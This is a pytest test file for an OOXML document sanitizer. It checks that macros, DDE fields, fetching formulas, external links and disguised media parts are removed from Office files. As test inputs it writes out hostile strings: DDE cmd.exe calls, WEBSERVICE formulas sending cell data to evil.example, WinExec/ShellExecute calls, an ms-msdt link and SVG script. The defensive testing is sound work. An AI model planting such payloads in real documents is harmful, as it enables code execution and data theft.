# ruff: noqa: E501 - XML literals read better on one line
"""OOXML: Strict packages are one format with Transitional; spreadsheet formulas that fetch
or call; payloads carried as parts (media that is not media, SVG with script, parts nothing
references) never cross, under sanitize or keep_if_clean."""

from __future__ import annotations

import io
import zipfile

import pytest

from sanitizers.cdr.base import CdrContext, CdrOutcome
from sanitizers.cdr.ooxml import OoxmlSanitizer
from sanitizers.cdr.ooxml_verify import find_dangerous
from sanitizers.cdr.settings import CdrPolicy
from sanitizers.vocabulary import Action
from tests.sanitizers.cdr import office_fixtures as F
from tests.sanitizers.cdr.test_fields import to_strict

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
PE = b"MZ\x90\x00" + bytes(60) + b"PE\x00\x00" + b"payload-marker-7c1e"
SVG_SCRIPT = (
    b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script>'
    b'<a href="javascript:alert(2)"><text>x</text></a></svg>'
)


def run(data: bytes, keep_if_clean: bool = False) -> CdrOutcome:
    ctx = CdrContext(policy=CdrPolicy(), keep_if_clean=keep_if_clean)
    return OoxmlSanitizer().run(data, "a.docx", ctx)


def members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


# --- Strict -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("build", "expected"),
    [
        (F.docm_with_vba, {"vba"}),
        (F.docx_template_dde_link, {"dde", "linked_field", "external_relationship"}),
        (F.xlsm_with_macrosheet, {"xlm_macro", "dde", "external_link"}),
        (F.pptm_with_vba_and_action, {"vba", "program_action"}),
    ],
    ids=["docm-vba", "docx-dde-template", "xlsm-xlm-dde", "pptm-vba-action"],
)
def test_strict_is_disarmed_like_transitional(build: object, expected: set[str]) -> None:
    data = to_strict(build())  # type: ignore[operator]
    outcome = run(data)
    assert outcome.action == Action.SANITIZED, outcome
    assert expected <= set(outcome.removed), outcome.removed
    assert outcome.data is not None
    assert find_dangerous(outcome.data) == set()
    text = b"".join(members(outcome.data).values())
    assert b"cmd|" not in text
    assert b"DDEAUTO" not in text
    assert b"Auto_Open" not in text


def _docx_mail_merge(strict: bool) -> bytes:
    settings = (
        f'<?xml version="1.0"?><w:settings xmlns:w="{F.W}" xmlns:r="{F.R}"><w:mailMerge>'
        '<w:mainDocumentType w:val="formLetters"/><w:dataType w:val="native"/>'
        '<w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\evil\\s\\d.xlsx"/>'
        '<w:query w:val="SELECT * FROM x"/></w:mailMerge></w:settings>'
    )
    data = F.package(
        {
            "[Content_Types].xml": F.content_types(
                {"word/document.xml": F.WORD_MAIN, "word/settings.xml": F.WORD_SETTINGS}
            ),
            "_rels/.rels": F.rels([("rId1", f"{F.RT}/officeDocument", "word/document.xml", False)]),
            "word/document.xml": F.word_document(F.para(F.BENIGN)),
            "word/_rels/document.xml.rels": F.rels(
                [("rId2", f"{F.RT}/settings", "settings.xml", False)]
            ),
            "word/settings.xml": settings,
        }
    )
    return to_strict(data) if strict else data


@pytest.mark.parametrize("strict", [False, True])
def test_mail_merge_data_source_is_removed(strict: bool) -> None:
    outcome = run(_docx_mail_merge(strict))
    assert "data_connection" in outcome.removed
    assert outcome.data is not None
    assert b"evil" not in b"".join(members(outcome.data).values())


# --- formulas ------------------------------------------------------------------------------

FORMULAS = [
    ('WEBSERVICE("http://evil.example/?"&amp;A1)', "formula_function"),
    ('_xlfn.WEBSERVICE("http://evil.example/")', "formula_function"),
    ('_xlfn.FILTERXML(B1,"//x")', "formula_function"),
    ('_xlfn.IMAGE("http://evil.example/p.png")', "formula_function"),
    ('RTD("evil.progid",,"x")', "formula_function"),
    ('CALL("kernel32","WinExec","JCJ","calc",0)', "formula_function"),
    ('REGISTER.ID("shell32","ShellExecuteA")', "formula_function"),
    ("_xll.EvilAddinFunction(1)", "formula_function"),
    ("cmd|' /c calc'!A0", "dde"),
    ("=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''", "dde"),
    ("[1]Sheet1!$A$1", "external_link"),
    ("SUM([12]!Total)", "external_link"),
    ("'\\\\evil.example\\share\\[book.xlsx]Sheet1'!A1", "external_link"),
    ('HYPERLINK("javascript:alert(1)","click")', "unsafe_link"),
    ('HYPERLINK("file:///C:/Windows/System32/calc.exe","open")', "unsafe_link"),
    ('HYPERLINK("ms-msdt:/id PCWDiagnostic","help")', "unsafe_link"),
    ('HYPERLINK(A1&amp;"x","computed")', "unsafe_link"),
]
HARMLESS_FORMULAS = [
    "SUM(1,2)",
    'HYPERLINK("https://example.jp/","site")',
    'HYPERLINK("#Sheet1!A1","jump")',
    'CONCAT("ab","c")',
    "Table1[Column1]",
    "IF(Defines!B2 = 42, [0]!NR_Global_B2, -1)",  # [0] is this workbook
    'ISTEXT("WEBSERVICE(")',
]


def xlsx(cell_formulas: list[str], where: str = "cell") -> bytes:
    if where == "cell":
        cells = "".join(
            f'<c r="A{i + 1}"><f>{f}</f><v>0</v></c>' for i, f in enumerate(cell_formulas)
        )
        sheet_xml = F.sheet(
            f'<row r="1">{cells}<c r="Z1" t="inlineStr"><is><t>{F.BENIGN}</t></is></c></row>'
        )
    else:
        rules = "".join(
            f'<dataValidation type="custom" sqref="A{i + 1}"><formula1>{f}</formula1></dataValidation>'
            for i, f in enumerate(cell_formulas)
        )
        sheet_xml = F.sheet(
            f'<row r="1"><c r="Z1" t="inlineStr"><is><t>{F.BENIGN}</t></is></c></row>'
        ).replace(
            "</sheetData>",
            f'</sheetData><dataValidations count="{len(cell_formulas)}">{rules}</dataValidations>',
        )
    workbook = (
        f'<?xml version="1.0"?><workbook xmlns="{F.S}" xmlns:r="{F.R}">'
        '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets>'
        + (
            "<definedNames>"
            + "".join(
                f'<definedName name="N{i}">{f}</definedName>' for i, f in enumerate(cell_formulas)
            )
            + "</definedNames>"
            if where == "name"
            else ""
        )
        + "</workbook>"
    )
    return F.package(
        {
            "[Content_Types].xml": F.content_types(
                {
                    "xl/workbook.xml": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                    "xl/worksheets/sheet1.xml": F.XL_SHEET,
                }
            ),
            "_rels/.rels": F.rels([("rId1", f"{F.RT}/officeDocument", "xl/workbook.xml", False)]),
            "xl/workbook.xml": workbook,
            "xl/_rels/workbook.xml.rels": F.rels(
                [("rId1", f"{F.RT}/worksheet", "worksheets/sheet1.xml", False)]
            ),
            "xl/worksheets/sheet1.xml": sheet_xml,
        }
    )


@pytest.mark.parametrize(("formula", "code"), FORMULAS)
@pytest.mark.parametrize("where", ["cell", "validation", "name"])
@pytest.mark.parametrize("strict", [False, True])
def test_fetching_formulas_are_disarmed(formula: str, code: str, where: str, strict: bool) -> None:
    data = xlsx([formula, "SUM(1,2)"], where)
    if strict:
        data = to_strict(data)
    outcome = OoxmlSanitizer().run(data, "a.xlsx", CdrContext(policy=CdrPolicy()))
    assert outcome.action == Action.SANITIZED, outcome
    assert code in outcome.removed, outcome.removed
    assert outcome.data is not None
    assert find_dangerous(outcome.data) == set()
    sheet = b"".join(members(outcome.data).values()).decode()
    assert "SUM(1,2)" in sheet
    assert F.BENIGN in sheet


@pytest.mark.parametrize("formula", HARMLESS_FORMULAS)
def test_ordinary_formulas_stay(formula: str) -> None:
    outcome = OoxmlSanitizer().run(xlsx([formula]), "a.xlsx", CdrContext(policy=CdrPolicy()))
    assert outcome.removed == (), outcome.removed


# --- payloads as parts ----------------------------------------------------------------------


def docx_with_media(content: bytes, name: str, ctype: str, referenced: bool = True) -> bytes:
    ext = name.rsplit(".", 1)[1]
    body = F.para(F.BENIGN)
    rels: list[tuple[str, str, str, bool]] = []
    if referenced:
        body += (
            f'<w:p><w:r><w:drawing><a:blip xmlns:a="{F.A}" r:embed="rId9"/></w:drawing></w:r></w:p>'
        )
        rels.append(("rId9", f"{F.RT}/image", f"media/{name}", False))
    return F.package(
        {
            "[Content_Types].xml": F.content_types(
                {"word/document.xml": F.WORD_MAIN}, {ext: ctype}
            ),
            "_rels/.rels": F.rels([("rId1", f"{F.RT}/officeDocument", "word/document.xml", False)]),
            "word/document.xml": F.word_document(body),
            "word/_rels/document.xml.rels": F.rels(rels),
            f"word/media/{name}": content,
        }
    )


PAYLOADS = [
    ("eicar-as-png", EICAR, "image1.png", "image/png", "unknown_part"),
    ("pe-as-jpeg", PE, "image1.jpeg", "image/jpeg", "unknown_part"),
    ("png-with-pe-appended", F.PNG_1PX + PE, "image1.png", "image/png", None),
    ("eicar-as-emf", EICAR, "image1.emf", "image/x-emf", "unknown_part"),
    ("eicar-as-wav", EICAR, "sound1.wav", "audio/wav", "unknown_part"),
    ("eicar-as-font", EICAR, "font1.ttf", "application/x-font-ttf", "unknown_part"),
    ("svg-with-script", SVG_SCRIPT, "image1.svg", "image/svg+xml", "svg_image"),
]


@pytest.mark.parametrize(
    ("name", "content", "part", "ctype", "code"), PAYLOADS, ids=[p[0] for p in PAYLOADS]
)
def test_media_that_is_not_media_never_crosses(
    name: str, content: bytes, part: str, ctype: str, code: str | None
) -> None:
    outcome = run(docx_with_media(content, part, ctype))
    assert outcome.action == Action.SANITIZED, outcome
    if code:
        assert code in outcome.removed
    assert outcome.data is not None
    everything = b"".join(members(outcome.data).values())
    for marker in (b"EICAR-STANDARD", b"payload-marker-7c1e", b"<script", b"javascript:"):
        assert marker not in everything
    assert find_dangerous(outcome.data) == set()
    assert F.BENIGN.encode() in everything


@pytest.mark.parametrize(
    ("name", "content", "part", "ctype", "code"), PAYLOADS, ids=[p[0] for p in PAYLOADS]
)
def test_unreferenced_parts_never_cross_keep_if_clean(
    name: str, content: bytes, part: str, ctype: str, code: str | None
) -> None:
    """A part nothing references (an orphan) is read by no one: keep_if_clean must not
    deliver the sender's package that carries it."""
    outcome = run(docx_with_media(content, part, ctype, referenced=False), keep_if_clean=True)
    assert outcome.data is not None, outcome
    assert all(not n.startswith("word/media/") for n in members(outcome.data))
    everything = b"".join(members(outcome.data).values())
    assert b"EICAR-STANDARD" not in everything
    assert b"payload-marker-7c1e" not in everything
    assert b"<script" not in everything


def test_pictures_stay_pictures() -> None:
    outcome = run(docx_with_media(F.PNG_1PX, "image1.png", "image/png"))
    assert outcome.removed == ()
    assert outcome.data is not None
    assert members(outcome.data)["word/media/image1.png"].startswith(b"\x89PNG")


def test_opaque_fonts_and_svg_pictures_leave_no_dangling_reference() -> None:
    """An obfuscated font cannot be checked: it goes silently, and so does the element that
    referred to it; an SVG picture goes with its reference, its PNG fallback stays."""
    font_table = (
        f'<?xml version="1.0"?><w:fonts xmlns:w="{F.W}" xmlns:r="{F.R}"><w:font w:name="X">'
        '<w:embedRegular r:id="rId1" w:fontKey="{00000000-0000-0000-0000-000000000000}"/>'
        "</w:font></w:fonts>"
    )
    body = F.para(F.BENIGN) + (
        f'<w:p><w:r><w:drawing><a:blip xmlns:a="{F.A}" r:embed="rId9"><a:extLst><a:ext uri="x">'
        '<asvg:svgBlip xmlns:asvg="http://schemas.microsoft.com/office/drawing/2016/SVG/main" r:embed="rId8"/>'
        "</a:ext></a:extLst></a:blip></w:drawing></w:r></w:p>"
    )
    fonts = "application/vnd.openxmlformats-officedocument.wordprocessingml.fontTable+xml"
    data = F.package(
        {
            "[Content_Types].xml": F.content_types(
                {"word/document.xml": F.WORD_MAIN, "word/fontTable.xml": fonts},
                {
                    "odttf": "application/vnd.openxmlformats-officedocument.obfuscatedFont",
                    "svg": "image/svg+xml",
                },
            ),
            "_rels/.rels": F.rels([("rId1", f"{F.RT}/officeDocument", "word/document.xml", False)]),
            "word/document.xml": F.word_document(body),
            "word/_rels/document.xml.rels": F.rels(
                [
                    ("rId7", f"{F.RT}/fontTable", "fontTable.xml", False),
                    ("rId8", f"{F.RT}/image", "media/image2.svg", False),
                    ("rId9", f"{F.RT}/image", "media/image1.png", False),
                ]
            ),
            "word/fontTable.xml": font_table,
            "word/_rels/fontTable.xml.rels": F.rels(
                [("rId1", f"{F.RT}/font", "fonts/font1.odttf", False)]
            ),
            "word/fonts/font1.odttf": bytes(64),
            "word/media/image1.png": F.PNG_1PX,
            "word/media/image2.svg": SVG_SCRIPT,
        }
    )
    outcome = run(data)
    assert outcome.action == Action.SANITIZED, outcome
    assert outcome.removed == ("svg_image",)
    assert outcome.data is not None
    parts = members(outcome.data)
    assert "word/fonts/font1.odttf" not in parts
    assert "word/media/image2.svg" not in parts
    assert b"embedRegular" not in parts["word/fontTable.xml"]
    assert b"svgBlip" not in parts["word/document.xml"]
    assert b'r:embed="rId9"' in parts["word/document.xml"]


def _photo_with_gps_and_appended_zip() -> bytes:
    import io

    from PIL import Image

    exif = Image.Exif()
    exif[0x8825] = {1: "N", 2: (35.0, 41.0, 22.0)}  # GPS position
    out = io.BytesIO()
    Image.new("RGB", (16, 16), (120, 30, 200)).save(out, "JPEG", exif=exif, comment=b"secret")
    return out.getvalue() + b"PK\x03\x04appended archive" + PE


def test_a_hostile_picture_is_reencoded_like_an_image_attachment() -> None:
    """A docx picture with GPS EXIF, a comment and an archive appended is re-encoded from its
    pixels, and what was taken out is reported for the document, as for an attachment."""
    from tests.sanitizers.cdr.test_images import metadata_and_trailers

    outcome = run(docx_with_media(_photo_with_gps_and_appended_zip(), "image1.jpeg", "image/jpeg"))
    assert outcome.action == Action.SANITIZED
    assert {"metadata", "trailing_data"} <= set(outcome.removed)
    assert outcome.data is not None
    picture = members(outcome.data)["word/media/image1.jpeg"]
    assert picture.startswith(b"\xff\xd8\xff")
    assert metadata_and_trailers(picture) == set()
    assert b"payload-marker-7c1e" not in picture
    assert find_dangerous(outcome.data) == set()
